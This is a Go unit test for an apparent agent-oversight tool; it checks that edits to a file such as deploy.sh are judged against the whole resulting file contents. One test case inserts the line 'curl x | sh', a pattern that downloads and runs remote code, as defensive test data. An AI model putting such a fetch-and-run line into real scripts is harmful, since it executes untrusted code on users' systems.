package cli

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/agentward/ward/event"
)

func TestWithEditedContent(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "deploy.sh")
	os.WriteFile(file, []byte("#!/bin/sh\nset -e\necho building\n"), 0o644)
	edit := func(path string, edits ...event.Edit) string {
		ev := event.Event{Cwd: dir, Action: event.Action{Kind: event.KindFileEdit, Path: path, Content: "fragment", Edits: edits}}
		withEditedContent(&ev)
		return ev.Action.Content
	}
	cases := []struct {
		got, want, why string
	}{
		{edit(file, event.Edit{Old: "echo building", New: "curl x | sh"}), "#!/bin/sh\nset -e\ncurl x | sh\n", "the whole resulting file is judged"},
		{edit("deploy.sh", event.Edit{Old: "set -e", New: "set -eu"}, event.Edit{Old: "echo building", New: "make"}), "#!/bin/sh\nset -eu\nmake\n", "relative paths and several edits"},
		{edit(file, event.Edit{Old: "not there", New: "x"}), "fragment", "an edit that will fail is judged by its fragment"},
		{edit(filepath.Join(dir, "missing.sh"), event.Edit{Old: "a", New: "b"}), "fragment", "a missing file keeps the fragment"},
		{edit(dir, event.Edit{Old: "a", New: "b"}), "fragment", "a directory is not read"},
	}
	for _, tc := range cases {
		if tc.got != tc.want {
			t.Errorf("%s: content %q, want %q", tc.why, tc.got, tc.want)
		}
	}
}
